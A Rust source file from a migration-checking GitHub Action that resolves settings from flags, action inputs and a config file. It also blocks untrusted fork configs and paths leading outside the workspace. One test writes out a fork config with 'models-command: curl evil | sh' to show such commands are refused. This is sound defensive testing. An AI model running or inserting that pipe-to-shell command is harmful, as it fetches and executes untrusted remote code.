//! Resolves what a run should do from, in order of precedence: command-line flags, GitHub
//! Action inputs (`INPUT_*`, read only when `GITHUB_ACTIONS=true`), the optional
//! `migration-guard.yml` config file, then defaults.

use crate::cli::{CheckArgs, ScopeMode};
use crate::config_file::{ConfigError, ConfigFile};
use crate::findings::{FailOn, RuleLevels};
use crate::github::CommentMode;
use crate::migrations::Format;
use crate::postgres::ProvisionOptions;
use crate::postgres::version::{self, VersionChoice};
use crate::roundtrip::RoundTrip;
use crate::scope::ScopeSettings;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// A setting that cannot be used; the message names it (flag, input, or config file line).
#[derive(Debug, thiserror::Error)]
pub enum SettingsError {
    #[error(
        "{setting}: unknown format {value:?} (expected auto, sqlx, golang-migrate, goose, sql-migrate, dbmate, diesel, flyway or alembic)"
    )]
    Format { setting: String, value: String },
    #[error("{setting}: {value:?} is not NAME=VALUE")]
    Placeholder { setting: String, value: String },
    #[error("{setting}: {value:?} is not NAME=VALUE with a PostgreSQL run-time parameter name (e.g. lock_timeout=5s)")]
    SessionSetting { setting: String, value: String },
    #[error("{setting}: unknown level {value:?} (expected error, warning or never)")]
    FailOn { setting: String, value: String },
    #[error("{setting}: {value:?} is not one of {expected}")]
    Choice { setting: String, value: String, expected: &'static str },
    #[error("{setting}: {value:?}: {reason}")]
    Rule { setting: String, value: String, reason: String },
    #[error("database-url and postgres-image are both set; use one")]
    TwoServers,
    #[error("models and models-command are both set; use one")]
    TwoModels,
    #[error(transparent)]
    Config(#[from] ConfigError),
    #[error("{setting}: unknown value {value:?} (expected all, new or none)")]
    RoundTrip { setting: String, value: String },
    #[error("{setting}: {value:?} is not a PostgreSQL major version (e.g. 16)")]
    PostgresVersion { setting: String, value: String },
    #[error("{setting}: unknown value {value:?} (expected changed or all)")]
    Scope { setting: String, value: String },
    #[error("{setting}: {value:?} leads outside the workspace; give a path inside the repository")]
    OutsideWorkspace { setting: String, value: String },
}

/// Everything `check` needs, resolved.
#[derive(Debug, Clone)]
pub struct CheckSettings {
    pub dir: PathBuf,
    /// `None`: detect.
    pub format: Option<Format>,
    pub provision: ProvisionOptions,
    pub report_dir: Option<PathBuf>,
    /// Where the merged prefix's archive is kept between runs.
    pub prefix_cache: Option<PathBuf>,
    pub placeholders: BTreeMap<String, String>,
    /// More Flyway locations of the chain (`--location`, input `locations`).
    pub locations: Vec<PathBuf>,
    pub fail_on: FailOn,
    /// Which migrations are judged: the base to compare with, `start-after`, `scope`.
    pub scope: ScopeSettings,
    /// Where `start-after` came from, for errors.
    pub start_after_setting: String,
    /// The baseline file named (`None`: `migration-guard-baseline.json` when it exists).
    pub baseline: Option<PathBuf>,
    /// Ids of migrations that are one-way by design.
    pub irreversible: Vec<String>,
    /// Per-rule severity overrides.
    pub rules: RuleLevels,
    /// Interpreter that runs Alembic.
    pub python: PathBuf,
    /// A requirements file to install with `python -m pip` before the check.
    pub python_requirements: Option<PathBuf>,
    /// Trace and lint locks and rewrites while applying (`--no-lint`, input `lint: false`).
    pub lint: bool,
    pub verbose: bool,
    /// Where the run shows itself moving (set by the command, silent by default).
    pub progress: crate::progress::Progress,
    /// How to publish the report on GitHub; `None` outside GitHub Actions.
    pub publish: Option<PublishSettings>,
    /// The declared schema to check the migrated one against.
    pub models: Option<Models>,
    /// Patterns of objects the drift check leaves out (see [`crate::schema::drift::ignored`]).
    pub drift_ignore: Vec<String>,
    /// Which migrations are round-tripped.
    pub round_trip: RoundTrip,
    /// Longest one up or down may take.
    pub migration_timeout: std::time::Duration,
    /// Test data to load, and the migration id after which to load it.
    pub seed: Option<PathBuf>,
    pub seed_at: Option<String>,
}

/// Where the declared schema comes from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Models {
    /// A `.sql` or `.yaml`/`.yml` file.
    File(PathBuf),
    /// A shell command printing DDL.
    Command(String),
    /// SQLAlchemy models named `module:attribute`, printed as DDL by the helper built in.
    SqlAlchemy(String),
}

impl Models {
    /// The `models` setting: a file, or SQLAlchemy models when it reads `module:attribute`
    /// (`app.models:Base`), does not end as a models file does, and no file has that name.
    fn from_setting(path: PathBuf) -> Models {
        let file_like =
            path.extension().is_some_and(|e| ["sql", "yaml", "yml"].iter().any(|x| e.eq_ignore_ascii_case(x)));
        match path.to_str().filter(|value| !file_like && !path.exists() && is_python_target(value)) {
            Some(target) => Models::SqlAlchemy(target.to_string()),
            None => Models::File(path),
        }
    }
}

/// The migrations folder when none is set: `migrations`, or the working directory when it has
/// no such folder but an `alembic.ini` (the root of an `alembic init` project).
fn default_dir() -> PathBuf {
    let migrations = PathBuf::from("migrations");
    if !migrations.exists() && Path::new("alembic.ini").is_file() { PathBuf::from(".") } else { migrations }
}

/// The `python` setting as [`interpreter`] gives it, `python3` when unset.
pub(crate) fn python_or_default(python: Option<PathBuf>) -> PathBuf {
    interpreter(python.unwrap_or_else(|| PathBuf::from("python3")))
}

/// The `python` setting as a command to spawn: a relative path (`.venv/bin/python`) is meant
/// from the working directory, while Alembic runs from the project's folder.
fn interpreter(python: PathBuf) -> PathBuf {
    if python.is_relative() && python.components().count() > 1 {
        std::path::absolute(&python).unwrap_or(python)
    } else {
        python
    }
}

/// `module:attribute`, both dotted Python identifiers.
fn is_python_target(value: &str) -> bool {
    let identifier = |part: &str| {
        part.chars().next().is_some_and(|c| c.is_alphabetic() || c == '_')
            && part.chars().all(|c| c.is_alphanumeric() || c == '_')
    };
    let dotted = |s: &str| s.split('.').all(identifier);
    value.split_once(':').is_some_and(|(module, attribute)| dotted(module) && dotted(attribute))
}

/// Publishing settings, read only inside GitHub Actions.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PublishSettings {
    /// When to write the sticky PR comment.
    pub comment: CommentMode,
    /// Tells this job's comment apart from others' [default: workflow/job].
    pub comment_key: Option<String>,
    /// Create a check run with annotations (else workflow-command annotations only).
    pub check_run: bool,
    /// Name of the uploaded artifact; empty disables the upload.
    pub artifact_name: String,
    pub slack_webhook: Option<String>,
    /// Token for the REST API (`github-token` input, else `GITHUB_TOKEN`).
    pub github_token: Option<String>,
    /// Let a publishing failure fail the step (exit 2).
    pub fail_on_publish_error: bool,
    /// Publishing gives up after this long; the check's result stands.
    pub deadline: std::time::Duration,
}

/// Default report directory inside GitHub Actions, relative to the workspace.
pub const ACTION_REPORT_DIR: &str = "migration-guard-report";

/// Reads an action input: GitHub upper-cases the name and keeps hyphens, which some runners
/// drop for Docker actions, so the underscore spelling is read too. Empty means unset.
/// The `postgres-version` setting: a major that must be met.
pub fn postgres_version(setting: String, value: String) -> Result<VersionChoice, SettingsError> {
    match version::parse_major(&value) {
        Some(major) => Ok(VersionChoice { major, source: setting, required: true }),
        None => Err(SettingsError::PostgresVersion { setting, value }),
    }
}

/// The action input `name` (hyphenated or underscored, trimmed; empty is unset).
pub(crate) fn input(env: &dyn Fn(&str) -> Option<String>, name: &str) -> Option<String> {
    let upper = name.to_uppercase();
    [format!("INPUT_{upper}"), format!("INPUT_{}", upper.replace('-', "_"))]
        .iter()
        .find_map(|key| env(key))
        .map(|v| v.trim().to_string())
        .filter(|v| !v.is_empty())
}

/// A value from the inputs or the config file, with the name of where it came from.
struct Layered {
    value: String,
    setting: String,
}

/// The layers under the command line: action inputs, then the config file.
struct Layers<'a> {
    env: &'a dyn Fn(&str) -> Option<String>,
    in_action: bool,
    file: Option<ConfigFile>,
    /// The config file comes from a pull request of a fork: settings that run commands, write
    /// files or reach servers are not taken from it.
    untrusted_file: bool,
}

/// Settings a pull request from a fork may not set through the repository's config file: they
/// run commands, write files, reach servers or lift the check's own limits.
pub const TRUSTED_ONLY: &[&str] = &[
    "models-command",
    "python",
    "python-requirements",
    "report-dir",
    "prefix-cache",
    "seed",
    "database-url",
    "slack-webhook",
    "pg-bin",
    "allow-superuser",
];

impl Layers<'_> {
    fn get(&self, name: &str) -> Option<Layered> {
        if self.in_action
            && let Some(value) = input(self.env, name)
        {
            return Some(Layered { value, setting: format!("input {name}") });
        }
        let file = self.file.as_ref()?;
        let entry = file.get(name)?;
        if self.untrusted_file && TRUSTED_ONLY.contains(&name) {
            eprintln!(
                "warning: {}:{}: {name} is not taken from the repository's config in a pull request from a fork; set it as an input of the workflow (or set the input trust-config: true)",
                file.path, entry.line
            );
            return None;
        }
        let value = entry.value.trim().to_string();
        (!value.is_empty()).then(|| Layered { value, setting: format!("{}:{}: {name}", file.path, entry.line) })
    }

    fn value(&self, name: &str) -> Option<String> {
        self.get(name).map(|l| l.value)
    }

    /// The items of list setting `name`: one a line or comma-separated.
    fn list(&self, name: &str) -> Vec<String> {
        self.value(name).map(|v| list_items(&v)).unwrap_or_default()
    }

    /// The non-empty lines of setting `name`, then the values of flag `flag`, each with the
    /// setting it came from.
    fn lines(&self, name: &str, flags: Vec<String>, flag: &str) -> Vec<(String, String)> {
        let mut out: Vec<(String, String)> = match self.get(name) {
            Some(l) => l
                .value
                .lines()
                .map(str::trim)
                .filter(|line| !line.is_empty())
                .map(|line| (l.setting.clone(), line.to_string()))
                .collect(),
            None => Vec::new(),
        };
        out.extend(flags.into_iter().map(|value| (flag.to_string(), value)));
        out
    }

    /// A path setting. Inside Actions it must lead into the workspace: the repository's config
    /// (or an input built from PR text) must not make the check read or write elsewhere.
    fn path(&self, name: &str) -> Option<Result<PathBuf, SettingsError>> {
        let l = self.get(name)?;
        Some(self.inside_workspace(&l.setting, PathBuf::from(&l.value)))
    }

    /// `path` from `setting`, refused inside Actions when it leads out of the workspace.
    fn inside_workspace(&self, setting: &str, path: PathBuf) -> Result<PathBuf, SettingsError> {
        if !self.in_action {
            return Ok(path);
        }
        let workspace = (self.env)("GITHUB_WORKSPACE")
            .map(PathBuf::from)
            .or_else(|| std::env::current_dir().ok())
            .unwrap_or_else(|| PathBuf::from("."));
        if inside(&workspace, &path) {
            Ok(path)
        } else {
            Err(SettingsError::OutsideWorkspace { setting: setting.to_string(), value: path.display().to_string() })
        }
    }

    /// A yes/no setting; `true`/`false` (also `yes`/`no`, `1`/`0`).
    fn flag(&self, name: &str, default: bool) -> Result<bool, SettingsError> {
        let Some(l) = self.get(name) else { return Ok(default) };
        match l.value.to_lowercase().as_str() {
            "true" | "yes" | "1" | "on" => Ok(true),
            "false" | "no" | "0" | "off" => Ok(false),
            _ => Err(SettingsError::Choice { setting: l.setting, value: l.value, expected: "true or false" }),
        }
    }
}

/// The trimmed, non-empty items of `text`, one a line or comma-separated.
fn list_items(text: &str) -> Vec<String> {
    text.split(['\n', ',']).map(str::trim).filter(|s| !s.is_empty()).map(str::to_string).collect()
}

/// `name=value` of a run-time parameter: a (possibly dotted) identifier and a one-line value,
/// with the name lowercased as PostgreSQL reads it.
fn session_setting(text: &str) -> Option<(String, String)> {
    let (name, value) = text.split_once('=')?;
    let (name, value) = (name.trim().to_ascii_lowercase(), value.trim());
    let part = |p: &str| {
        p.chars().next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
            && p.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    };
    let value = value.strip_prefix('\'').and_then(|v| v.strip_suffix('\'')).unwrap_or(value);
    (name.split('.').count() <= 2
        && name.split('.').all(part)
        && !value.is_empty()
        && !value.contains(char::is_control))
    .then(|| (name, value.to_string()))
}

/// Whether `path` (relative to `workspace`, or absolute) stays inside `workspace`, after `..`
/// and, for the part that exists, symbolic links.
fn inside(workspace: &Path, path: &Path) -> bool {
    let root = std::fs::canonicalize(workspace).unwrap_or_else(|_| workspace.to_path_buf());
    let mut full = root.clone();
    for part in path.components() {
        match part {
            std::path::Component::RootDir => full = PathBuf::from("/"),
            std::path::Component::ParentDir => {
                full.pop();
            }
            std::path::Component::Normal(name) => {
                full.push(name);
                // A link in the repository may point anywhere: follow what exists.
                if let Ok(real) = std::fs::canonicalize(&full) {
                    full = real;
                }
            }
            _ => {}
        }
    }
    full.starts_with(&root)
}

impl CheckSettings {
    /// Merges flags over action inputs (when running in GitHub Actions) over the config file over
    /// defaults.
    pub fn resolve(args: CheckArgs, env: &dyn Fn(&str) -> Option<String>) -> Result<CheckSettings, SettingsError> {
        let in_action = env("GITHUB_ACTIONS").as_deref() == Some("true");
        let config = match (&args.config, in_action.then(|| input(env, "config")).flatten()) {
            (Some(path), _) => Some(path.clone()),
            (None, Some(value)) => {
                let workspace = env("GITHUB_WORKSPACE").map(PathBuf::from).unwrap_or_else(|| PathBuf::from("."));
                if !inside(&workspace, Path::new(&value)) {
                    return Err(SettingsError::OutsideWorkspace { setting: "input config".into(), value });
                }
                Some(PathBuf::from(value))
            }
            (None, None) => None,
        };
        let untrusted_file = in_action
            && crate::github::context::fork_pull_request(env)
            && !input(env, "trust-config").is_some_and(|v| matches!(v.to_lowercase().as_str(), "true" | "yes" | "1"));
        let layers = Layers { env, in_action, file: ConfigFile::find(config.as_deref())?, untrusted_file };
        let input = |name: &str| layers.value(name);

        let (format_setting, format_value) = match (args.format, layers.get("format")) {
            (Some(v), _) => ("--format".to_string(), Some(v)),
            (None, Some(l)) => (l.setting, Some(l.value)),
            (None, None) => ("--format".to_string(), None),
        };
        let format = match format_value.as_deref() {
            None | Some("auto") => None,
            Some(value) => Some(
                <Format as clap::ValueEnum>::from_str(value, true)
                    .map_err(|_| SettingsError::Format { setting: format_setting, value: value.to_string() })?,
            ),
        };

        let mut locations = Vec::new();
        for value in layers.list("locations") {
            locations.push(layers.inside_workspace("locations", PathBuf::from(value))?);
        }
        locations.extend(args.locations);
        let mut placeholders = BTreeMap::new();
        for (setting, value) in layers.lines("placeholders", args.placeholders, "--placeholder") {
            let Some((name, val)) = value.split_once('=') else {
                return Err(SettingsError::Placeholder { setting, value });
            };
            placeholders.insert(name.trim().to_string(), val.to_string());
        }
        let mut session_settings: Vec<(String, String)> = Vec::new();
        for (setting, value) in layers.lines("session-settings", args.session_settings, "--session-setting") {
            let (name, val) = session_setting(&value).ok_or(SettingsError::SessionSetting { setting, value })?;
            session_settings.retain(|(n, _)| *n != name);
            session_settings.push((name, val));
        }

        let fail_on = match (args.fail_on, layers.get("fail-on")) {
            (Some(level), _) => level,
            (None, Some(l)) => <FailOn as clap::ValueEnum>::from_str(&l.value, true)
                .map_err(|_| SettingsError::FailOn { setting: l.setting, value: l.value })?,
            (None, None) => FailOn::default(),
        };

        let mut rules = RuleLevels::default();
        let mut specs: Vec<(String, String)> = Vec::new();
        if let Some(l) = layers.get("rules") {
            specs.extend(
                l.value
                    .split(['\n', ','])
                    .map(|r| (l.setting.clone(), r.trim().to_string()))
                    .filter(|(_, r)| !r.is_empty()),
            );
        }
        specs.extend(args.rules.into_iter().map(|r| ("--rule".to_string(), r)));
        for (setting, value) in specs {
            let (rule, level) = RuleLevels::parse(&value).map_err(|reason| SettingsError::Rule {
                setting,
                value: value.clone(),
                reason,
            })?;
            rules.set(rule, level);
        }

        let database_url = args.database_url.filter(|u| !u.is_empty()).or_else(|| input("database-url"));
        let shared_server = database_url.is_some();
        let postgres_image = args.postgres_image.or_else(|| input("postgres-image"));
        if database_url.is_some() && postgres_image.is_some() {
            return Err(SettingsError::TwoServers);
        }
        let args_models_unset = args.models.is_none();
        let models = match (
            args.models.map(Ok).or_else(|| layers.path("models")).transpose()?,
            args.models_command.filter(|c| !c.trim().is_empty()).or_else(|| input("models-command")),
        ) {
            (Some(_), Some(_)) => return Err(SettingsError::TwoModels),
            (Some(path), None) => Some(Models::from_setting(path)),
            (None, Some(command)) => Some(Models::Command(command)),
            (None, None) => None,
        };
        // Models named by module run the repository's Python, as models-command runs a
        // command: a fork's config file may not ask for that.
        let from_fork_config = layers.untrusted_file && args_models_unset && self::input(env, "models").is_none();
        let models = match models {
            Some(Models::SqlAlchemy(target)) if from_fork_config => {
                eprintln!(
                    "warning: models {target} (Python models) is not taken from the repository's config in a pull request from a fork; set it as an input of the workflow (or set the input trust-config: true)"
                );
                None
            }
            models => models,
        };
        let publish = if in_action { Some(PublishSettings::resolve(&layers)?) } else { None };
        let report_dir = args
            .report_dir
            .map(Ok)
            .or_else(|| layers.path("report-dir"))
            .transpose()?
            .or_else(|| in_action.then(|| PathBuf::from(ACTION_REPORT_DIR)));
        let dir = args.dir.map(Ok).or_else(|| layers.path("path")).transpose()?.unwrap_or_else(default_dir);
        let postgres_version = match (args.postgres_version, layers.get("postgres-version")) {
            (Some(value), _) => Some(postgres_version("--postgres-version".into(), value)?),
            (None, Some(l)) => Some(postgres_version(l.setting, l.value)?),
            (None, None) => version::declared(&dir, Path::new(".")),
        };
        let prefix_cache = args.prefix_cache.map(Ok).or_else(|| layers.path("prefix-cache")).transpose()?;
        let round_trip = match (args.round_trip, layers.get("round-trip")) {
            (Some(mode), _) => mode,
            (None, Some(l)) => <RoundTrip as clap::ValueEnum>::from_str(&l.value, true)
                .map_err(|_| SettingsError::RoundTrip { setting: l.setting, value: l.value })?,
            (None, None) => RoundTrip::default(),
        };
        let all = match (args.scope, layers.get("scope")) {
            (Some(mode), _) => mode == ScopeMode::All,
            (None, Some(l)) => match l.value.to_lowercase().as_str() {
                "all" => true,
                "changed" => false,
                _ => return Err(SettingsError::Scope { setting: l.setting, value: l.value }),
            },
            (None, None) => false,
        };
        let (start_after, start_after_setting) = match (args.start_after, layers.get("start-after")) {
            (Some(v), _) => (Some(v), "--start-after".to_string()),
            (None, Some(l)) => (Some(l.value), l.setting),
            (None, None) => (None, "--start-after".to_string()),
        };
        let mut irreversible = layers.list("irreversible");
        irreversible.extend(args.irreversible);
        // In a pull request the base branch is the natural baseline.
        let base_ref = args.base_ref.or_else(|| input("base-ref")).or_else(|| {
            in_action.then(|| env("GITHUB_BASE_REF")).flatten().filter(|b| !b.is_empty()).map(|b| format!("origin/{b}"))
        });
        Ok(CheckSettings {
            dir,
            format,
            provision: ProvisionOptions {
                database_url,
                postgres_image,
                pg_bin: args.pg_bin.or_else(|| input("pg-bin").map(PathBuf::from)),
                allow_superuser: args.allow_superuser || layers.flag("allow-superuser", false)?,
                postgres_version,
                session_settings,
                // On a shared server this run's roles get names of their own.
                role_prefix: Some(format!(
                    "mg_{}_{:08x}_",
                    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_or(0, |d| d.as_secs()),
                    crate::random::u64() as u32
                ))
                .filter(|_| shared_server),
                roles: {
                    let mut roles = layers.list("roles");
                    roles.extend(args.roles);
                    roles
                },
                max_connections: None,
            },
            report_dir,
            prefix_cache,
            placeholders,
            locations,
            fail_on,
            lint: !args.no_lint && layers.flag("lint", true)?,
            verbose: args.verbose || layers.flag("verbose", false)?,
            progress: crate::progress::Progress::silent(),
            publish,
            models,
            drift_ignore: {
                let mut patterns = layers.list("drift-ignore");
                patterns.extend(list_items(&args.drift_ignore.join(",")));
                patterns
            },
            migration_timeout: match (args.migration_timeout, layers.get("migration-timeout")) {
                (Some(seconds), _) => std::time::Duration::from_secs(seconds.max(1)),
                (None, Some(l)) => {
                    l.value.parse::<u64>().ok().filter(|s| *s > 0).map(std::time::Duration::from_secs).ok_or(
                        SettingsError::Choice { setting: l.setting, value: l.value, expected: "a number of seconds" },
                    )?
                }
                (None, None) => crate::roundtrip::DEFAULT_TIMEOUT,
            },
            scope: ScopeSettings { base_ref, start_after, all },
            start_after_setting,
            baseline: args.baseline.map(Ok).or_else(|| layers.path("baseline")).transpose()?,
            irreversible,
            round_trip,
            seed: args.seed.map(Ok).or_else(|| layers.path("seed")).transpose()?,
            seed_at: args.seed_at.or_else(|| input("seed-at")),
            rules,
            python: python_or_default(args.python.or_else(|| input("python").map(PathBuf::from))),
            python_requirements: args
                .python_requirements
                .map(Ok)
                .or_else(|| layers.path("python-requirements"))
                .transpose()?,
        })
    }
}

impl PublishSettings {
    fn resolve(layers: &Layers) -> Result<PublishSettings, SettingsError> {
        let comment = match layers.get("comment") {
            None => CommentMode::Always,
            Some(l) => match l.value.to_lowercase().as_str() {
                "always" | "true" => CommentMode::Always,
                "on-failure" => CommentMode::OnFailure,
                "false" | "never" => CommentMode::Never,
                _ => {
                    return Err(SettingsError::Choice {
                        setting: l.setting,
                        value: l.value,
                        expected: "always, on-failure or false",
                    });
                }
            },
        };
        let github_token = input(layers.env, "github-token")
            .or_else(|| (layers.env)("GITHUB_TOKEN").map(|t| t.trim().to_string()).filter(|t| !t.is_empty()));
        Ok(PublishSettings {
            comment,
            comment_key: layers.value("comment-key"),
            check_run: layers.flag("check-run", true)?,
            artifact_name: match layers.get("artifact-name") {
                Some(l) if l.value == "false" => String::new(),
                Some(l) => l.value,
                None => "migration-guard-report".to_string(),
            },
            slack_webhook: layers.value("slack-webhook"),
            github_token,
            fail_on_publish_error: layers.flag("fail-on-publish-error", false)?,
            deadline: match layers.get("publish-timeout") {
                None => std::time::Duration::from_secs(60),
                Some(l) => l.value.parse::<u64>().ok().filter(|s| *s > 0).map(std::time::Duration::from_secs).ok_or(
                    SettingsError::Choice { setting: l.setting, value: l.value, expected: "a number of seconds" },
                )?,
            },
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn env_of(pairs: &'static [(&'static str, &'static str)]) -> impl Fn(&str) -> Option<String> {
        move |k| pairs.iter().find(|(key, _)| *key == k).map(|(_, v)| v.to_string())
    }

    #[test]
    fn flags_override_inputs_and_inputs_need_actions() {
        let env = env_of(&[("GITHUB_ACTIONS", "true"), ("INPUT_PATH", "db/migrations"), ("INPUT_FORMAT", "goose")]);
        let s = CheckSettings::resolve(CheckArgs::default(), &env).unwrap();
        assert_eq!(s.dir, PathBuf::from("db/migrations"));
        assert_eq!(s.format, Some(Format::Goose));
        let args = CheckArgs { format: Some("flyway".into()), ..CheckArgs::default() };
        assert_eq!(CheckSettings::resolve(args, &env).unwrap().format, Some(Format::Flyway));
        let outside = env_of(&[("INPUT_PATH", "db/migrations")]);
        assert_eq!(CheckSettings::resolve(CheckArgs::default(), &outside).unwrap().dir, PathBuf::from("migrations"));
    }

    #[test]
    fn session_settings_from_inputs_and_flags() {
        let env = env_of(&[
            ("GITHUB_ACTIONS", "true"),
            ("INPUT_SESSION_SETTINGS", "Lock_Timeout = '4s'\n\nstatement_timeout=1min"),
        ]);
        let args = CheckArgs { session_settings: vec!["lock_timeout=5s".into()], ..CheckArgs::default() };
        let s = CheckSettings::resolve(args, &env).unwrap();
        let expected =
            [("statement_timeout", "1min"), ("lock_timeout", "5s")].map(|(n, v)| (n.to_string(), v.to_string()));
        assert_eq!(s.provision.session_settings, expected, "a flag wins over the input");
        for bad in ["lock_timeout", "=5s", "lock timeout=5s", "a.b.c=1", "x=", "search_path=a\u{7}"] {
            let args = CheckArgs { session_settings: vec![bad.into()], ..CheckArgs::default() };
            let error = CheckSettings::resolve(args, &env_of(&[])).unwrap_err().to_string();
            assert!(error.starts_with("--session-setting: "), "{bad}: {error}");
        }
        assert_eq!(session_setting("app.tenant=7"), Some(("app.tenant".into(), "7".into())));
    }

    #[test]
    fn hyphenated_and_underscored_inputs() {
        let hyphen = env_of(&[("GITHUB_ACTIONS", "true"), ("INPUT_DATABASE-URL", "postgres://a@b/c")]);
        let under = env_of(&[("GITHUB_ACTIONS", "true"), ("INPUT_DATABASE_URL", "postgres://a@b/c")]);
        for env in [&hyphen as &dyn Fn(&str) -> Option<String>, &under] {
            let s = CheckSettings::resolve(CheckArgs::default(), env).unwrap();
            assert_eq!(s.provision.database_url.as_deref(), Some("postgres://a@b/c"));
        }
        let empty = env_of(&[("GITHUB_ACTIONS", "true"), ("INPUT_DATABASE_URL", "")]);
        assert_eq!(CheckSettings::resolve(CheckArgs::default(), &empty).unwrap().provision.database_url, None);
    }

    #[test]
    fn rules_from_inputs_then_flags() {
        let env = env_of(&[("GITHUB_ACTIONS", "true"), ("INPUT_RULES", "missing-downgrade=error, cycle=off")]);
        let args = CheckArgs { rules: vec!["missing-downgrade=off".into()], ..CheckArgs::default() };
        let s = CheckSettings::resolve(args, &env).unwrap();
        let kept = s.rules.apply(vec![
            crate::findings::Finding::new("missing-downgrade", crate::findings::Severity::Warning, "m"),
            crate::findings::Finding::new("cycle", crate::findings::Severity::Error, "c"),
        ]);
        assert!(kept.is_empty());
        let args = CheckArgs { rules: vec!["cycle=loud".into()], ..CheckArgs::default() };
        let err = CheckSettings::resolve(args, &env_of(&[])).unwrap_err().to_string();
        assert!(err.starts_with("--rule: \"cycle=loud\": unknown level"), "{err}");
    }

    #[test]
    fn bad_values_name_the_setting() {
        let env = env_of(&[]);
        let args = CheckArgs { format: Some("liquibase".into()), ..CheckArgs::default() };
        let err = CheckSettings::resolve(args, &env).unwrap_err().to_string();
        assert!(err.starts_with("--format: unknown format \"liquibase\""), "{err}");
        let args = CheckArgs { placeholders: vec!["nope".into()], ..CheckArgs::default() };
        assert!(CheckSettings::resolve(args, &env).unwrap_err().to_string().contains("--placeholder"));
    }

    #[test]
    fn models_from_flags_or_inputs_but_not_both() {
        let env = env_of(&[("GITHUB_ACTIONS", "true"), ("INPUT_MODELS_COMMAND", "python dump.py")]);
        let s = CheckSettings::resolve(CheckArgs::default(), &env).unwrap();
        assert_eq!(s.models, Some(Models::Command("python dump.py".into())));
        let args = CheckArgs { models: Some(PathBuf::from("schema.sql")), ..CheckArgs::default() };
        let err = CheckSettings::resolve(args, &env).unwrap_err();
        assert!(matches!(err, SettingsError::TwoModels), "{err}");
        let args = CheckArgs { models: Some(PathBuf::from("schema.sql")), ..CheckArgs::default() };
        let s = CheckSettings::resolve(args, &env_of(&[])).unwrap();
        assert_eq!(s.models, Some(Models::File(PathBuf::from("schema.sql"))));
    }

    #[test]
    fn models_named_module_colon_attribute_are_sqlalchemy_unless_a_file_has_that_name() {
        let models = |value: &str| Models::from_setting(PathBuf::from(value));
        assert_eq!(models("app.models:Base"), Models::SqlAlchemy("app.models:Base".into()));
        assert_eq!(models("models:db.Model.metadata"), Models::SqlAlchemy("models:db.Model.metadata".into()));
        for file in ["schema.sql", "db/models.yaml", "C:models.sql", "app.models:", ":Base", "app-models:Base", "a.:B"]
        {
            assert_eq!(models(file), Models::File(PathBuf::from(file)), "{file}");
        }
        let dir = tempfile::tempdir().unwrap();
        let odd = dir.path().join("app.models:Base");
        std::fs::write(&odd, "").unwrap();
        assert_eq!(Models::from_setting(odd.clone()), Models::File(odd));
    }

    #[test]
    fn config_file_is_the_lowest_layer() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("mg.yml");
        std::fs::write(&file, "path: from-file\nformat: goose\nfail-on: warning\ncomment: on-failure\n").unwrap();
        let args = || CheckArgs { config: Some(file.clone()), ..CheckArgs::default() };
        let s = CheckSettings::resolve(args(), &env_of(&[])).unwrap();
        assert_eq!(s.dir, PathBuf::from("from-file"));
        assert_eq!(s.format, Some(Format::Goose));
        assert_eq!(s.fail_on, FailOn::Warning);
        assert_eq!(s.publish, None, "publishing is for GitHub Actions only");
        let env = env_of(&[("GITHUB_ACTIONS", "true"), ("INPUT_PATH", "from-input"), ("INPUT_GITHUB_TOKEN", "t")]);
        let s = CheckSettings::resolve(args(), &env).unwrap();
        assert_eq!(s.dir, PathBuf::from("from-input"));
        assert_eq!(s.format, Some(Format::Goose));
        let publish = s.publish.unwrap();
        assert_eq!(publish.comment, CommentMode::OnFailure);
        assert!(publish.check_run);
        assert_eq!(publish.github_token.as_deref(), Some("t"));
        assert_eq!(s.report_dir, Some(PathBuf::from(ACTION_REPORT_DIR)));
        let flags = CheckArgs { dir: Some("from-flag".into()), fail_on: Some(FailOn::Never), ..args() };
        let s = CheckSettings::resolve(flags, &env).unwrap();
        assert_eq!((s.dir, s.fail_on), (PathBuf::from("from-flag"), FailOn::Never));
    }

    #[test]
    fn bad_config_values_name_the_line() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("mg.yml");
        std::fs::write(&file, "path: db\n\nfail-on: sometimes\n").unwrap();
        let args = CheckArgs { config: Some(file.clone()), ..CheckArgs::default() };
        let err = CheckSettings::resolve(args, &env_of(&[])).unwrap_err().to_string();
        assert!(
            err.ends_with("mg.yml:3: fail-on: unknown level \"sometimes\" (expected error, warning or never)"),
            "{err}"
        );
        let missing = CheckArgs { config: Some(dir.path().join("nope.yml")), ..CheckArgs::default() };
        let err = CheckSettings::resolve(missing, &env_of(&[])).unwrap_err().to_string();
        assert!(err.contains("nope.yml: cannot read"), "{err}");
        let env = env_of(&[("GITHUB_ACTIONS", "true"), ("INPUT_CHECK_RUN", "maybe")]);
        let err = CheckSettings::resolve(CheckArgs::default(), &env).unwrap_err().to_string();
        assert_eq!(err, "input check-run: \"maybe\" is not one of true or false");
    }

    #[test]
    fn a_forks_config_file_cannot_run_commands_or_write_elsewhere() {
        let dir = tempfile::tempdir().unwrap();
        let event = dir.path().join("event.json");
        std::fs::write(
            &event,
            r#"{"pull_request": {"number": 7, "head": {"repo": {"full_name": "mallory/shop"}}, "base": {"repo": {"full_name": "acme/shop"}}}}"#,
        )
        .unwrap();
        let file = dir.path().join("mg.yml");
        std::fs::write(
            &file,
            "fail-on: warning
models-command: curl evil | sh
allow-superuser: true
",
        )
        .unwrap();
        let event_path = event.display().to_string();
        let resolve = |trust: &str| {
            let env = |k: &str| match k {
                "GITHUB_ACTIONS" => Some("true".to_string()),
                "GITHUB_EVENT_PATH" => Some(event_path.clone()),
                "GITHUB_REPOSITORY" => Some("acme/shop".to_string()),
                "INPUT_TRUST_CONFIG" => Some(trust.to_string()),
                _ => None,
            };
            CheckSettings::resolve(CheckArgs { config: Some(file.clone()), ..CheckArgs::default() }, &env).unwrap()
        };
        let s = resolve("");
        assert_eq!((s.fail_on, s.models, s.provision.allow_superuser), (FailOn::Warning, None, false));
        let s = resolve("true");
        assert_eq!(s.models, Some(Models::Command("curl evil | sh".into())));
        assert!(s.provision.allow_superuser);
        // Models named by module would import the fork's Python: not from its config either.
